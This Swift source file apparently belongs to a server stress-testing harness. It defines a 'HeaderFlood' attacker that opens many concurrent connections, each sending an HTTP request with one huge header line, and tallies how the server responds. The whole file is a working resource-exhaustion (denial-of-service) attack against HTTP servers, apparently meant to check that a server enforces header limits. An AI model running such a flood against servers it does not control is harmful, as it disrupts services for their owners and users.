import BlogSockets
#if canImport(Glibc)
import Glibc
#endif

/// HTTP requests with one enormous header line: `GET / HTTP/1.1`, then
/// `X: ` and `lineBytes` of `a`, sent as fast as the server reads them.
/// A server without a header limit buffers (and parses) all of it.
///
/// Each connection ends its request with the blank line, reads the status
/// line of whatever the server answers, and makes way for the next; one the
/// server closes mid-header is replaced at once.
struct HeaderFlood: Attacker {
    let route: Route
    /// Connections at a time, one per thread.
    let connections: Int
    let lineBytes: Int
    let timeout: Double

    var threads: Int { connections }

    private static let head = Array("GET / HTTP/1.1\r\nX: ".utf8)
    private static let chunk = [UInt8](repeating: UInt8(ascii: "a"), count: 64 * 1024)
    private static let blankLine = Array("\r\n\r\n".utf8)

    func run(thread: Int, window: AttackWindow) -> AttackTally {
        var tally = AttackTally()
        while !window.isOver {
            let socket: Socket
            do {
                socket = try route.connect(until: window.deadline(timeout: timeout).deadline)
            } catch {
                tally.add("failed \(ChurnFailure(error).reason)")
                usleep(10_000)
                continue
            }
            tally.add("connections")
            request(on: socket, window: window, tally: &tally)
            socket.close()
        }
        return tally
    }

    /// One request: the header line in chunks, as long as the server reads,
    /// and its answer.
    private func request(on socket: Socket, window: AttackWindow, tally: inout AttackTally) {
        // No timeout of its own while sending: a server that reads slowly
        // is what this attack is about; only the end stops it.
        let untilEnd = Deadline(seconds: window.secondsLeft)
        var sent = 0
        do throws(SocketError) {
            try socket.sendAll(Self.head, until: untilEnd)
            while sent < lineBytes {
                let part = Self.chunk.prefix(lineBytes - sent)
                try socket.sendAll(part, until: untilEnd)
                sent += part.count
                tally.add("header bytes sent", part.count)
            }
            try socket.sendAll(Self.blankLine, until: untilEnd)
        } catch {
            if window.isOver {
                tally.add("cut at end while sending")
                return
            }
            tally.add("closed by server while sending (\(ChurnFailure(error).reason))")
            // It may have said why before closing (431, say).
            if let line = try? socket.receiveFirstLine(until: Deadline(seconds: 0.2)) {
                tally.add("response \(line)")
            }
            return
        }
        tally.add("headers sent in full")
        let (deadline, cut) = window.deadline(timeout: timeout)
        do throws(SocketError) {
            if let line = try socket.receiveFirstLine(until: deadline) {
                tally.add("response \(line)")
            } else {
                tally.add("closed by server without a response")
            }
        } catch {
            let failure = ChurnFailure(error)
            if cut, case .timeout = failure {
                tally.add("cut at end waiting for the response")
            } else {
                tally.add("failed \(failure.reason)")
            }
        }
    }

    func summary(of tally: AttackTally) -> String {
        let mib = Double(tally["header bytes sent"]) / 1_048_576
        var parts = [
            "\(connections) connections at a time",
            "\(grouped(tally["connections"])) opened",
            String(format: "%.1f MiB of header sent", mib),
            "\(grouped(tally["headers sent in full"])) headers of \(lineBytes / 1024) KiB sent in full",
        ]
        parts += tally.entries(startingWith: "response ").map { "\(grouped($0.count)) \($0.name)" }
        let closed = tally.total(startingWith: "closed by server")
        if closed > 0 { parts.append("\(grouped(closed)) closed by the server") }
        return parts.joined(separator: ", ")
    }
}

extension Socket {
    /// Reads until the first line (up to CR LF) of what the peer sends and
    /// returns it, at most 80 characters; nil if it closed before a byte.
    func receiveFirstLine(until deadline: Deadline) throws(SocketError) -> String? {
        var received: [UInt8] = []
        var chunk = [UInt8](repeating: 0, count: 4096)
        while received.count < 4096 {
            if let end = received.firstRange(of: [13, 10]) { received = Array(received[..<end.lowerBound]); break }
            let result = chunk.withUnsafeMutableBytes { raw in
                Result { () throws(SocketError) in try receive(into: raw) }
            }
            switch try result.get() {
            case .done(0):
                if received.isEmpty { return nil }
                return ReplyText.of(received)
            case .done(let count):
                received += chunk[0..<count]
            case .wouldBlock:
                guard wait(for: Int16(POLLIN), until: deadline) != nil else { throw .timedOut(call: "recv") }
            }
        }
        return String(ReplyText.of(received).prefix(80))
    }
}
